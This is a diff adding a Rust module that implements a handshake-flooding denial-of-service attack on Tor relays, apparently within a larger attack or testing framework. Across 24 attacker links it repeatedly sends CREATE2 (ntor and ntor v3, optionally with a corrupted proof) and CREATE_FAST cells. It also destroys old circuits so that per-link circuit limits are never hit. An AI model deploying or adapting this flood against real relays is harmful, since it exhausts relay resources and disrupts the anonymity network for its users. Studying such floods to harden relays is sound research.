@@ -1,0 +1,87 @@
+//! Floods of handshakes: what a relay computes for others before it knows them.
+
+use super::circuits::{Lines, Yard};
+use super::field::{Field, LineId};
+use super::{Attack, Prey};
+use crate::error::Error;
+use onion::cell::Command;
+use onion::cell::msg::{Create2, HANDSHAKE_NTOR_V3};
+use onion::crypto::ntor_v3;
+use onion::suite::{Handshake, Suite, Tor};
+use std::collections::{BTreeMap, VecDeque};
+
+/// Addresses of the attacker, with a link each.
+const LINES: usize = 24;
+
+/// Circuits of a link that stand before the oldest is destroyed: its handshake is done by then, and no bound on the circuits of
+/// a link is reached.
+const STANDING: usize = 400;
+
+/// One handshake, over and over: it costs who sends it nothing, since no relay remembers those it has answered.
+pub(super) struct Flood {
+    command: Command,
+    body: Vec<u8>,
+    lines: Lines,
+    yard: Yard,
+    standing: BTreeMap<LineId, VecDeque<onion::cell::CircId>>,
+}
+
+impl Flood {
+    fn new((command, body): (Command, Vec<u8>)) -> Self {
+        let (lines, yard, standing) = (Lines::default(), Yard::default(), BTreeMap::new());
+        Self { command, body, lines, yard, standing }
+    }
+
+    /// CREATE2 with ntor, by the right keys.
+    pub(super) fn ntor(prey: &Prey) -> Self {
+        Self::new(<Tor as Suite>::Handshake::ntor(prey.relay(), [9; 32]).create_cell())
+    }
+
+    /// CREATE2 with ntor of version 3, by the right keys; the client's proof that it knows them may be wrong.
+    pub(super) fn ntor_v3(prey: &Prey, is_right: bool) -> Result<Self, Error> {
+        let relay = prey.relay();
+        let wrong = |problem: String| Error::Clients(format!("a relay of no use: {problem}"));
+        let ed25519_id =
+            relay.ids.ed25519.ok_or_else(|| wrong("no Ed25519 identity".to_owned()))?;
+        let keys = ntor_v3::RelayKeys { ed25519_id: ed25519_id.0, onion_key: relay.onion_key };
+        let client =
+            ntor_v3::Client::new(keys, [9; 32], &[0]).map_err(|it| wrong(it.to_string()))?;
+        let mut data = client.data().to_vec();
+        if !is_right && let Some(last) = data.last_mut() {
+            *last ^= 1;
+        }
+        let mut body = Vec::new();
+        Create2 { handshake_type: HANDSHAKE_NTOR_V3, data: &data }.encode_into(&mut body);
+        Ok(Self::new((Command::CREATE2, body)))
+    }
+
+    /// CREATE_FAST.
+    pub(super) fn fast() -> Self {
+        Self::new(<Tor as Suite>::Handshake::fast([9; 20]).create_cell())
+    }
+}
+
+impl Attack for Flood {
+    fn act(&mut self, field: &mut Field) {
+        let lines = self.lines.keep(field, LINES).to_vec();
+        for line in lines {
+            let standing = self.standing.entry(line).or_default();
+            while field.takes(line) {
+                let circ_id = self.yard.next_id(line);
+                field.send(line, circ_id, self.command, &self.body);
+                standing.push_back(circ_id);
+                if standing.len() > STANDING
+                    && let Some(oldest) = standing.pop_front()
+                {
+                    field.send(line, oldest, Command::DESTROY, &[0]);
+                }
+            }
+        }
+    }
+
+    fn handle_lost(&mut self, line: LineId) {
+        self.lines.handle_lost(line);
+        self.yard.handle_lost(line);
+        self.standing.remove(&line);
+    }
+}
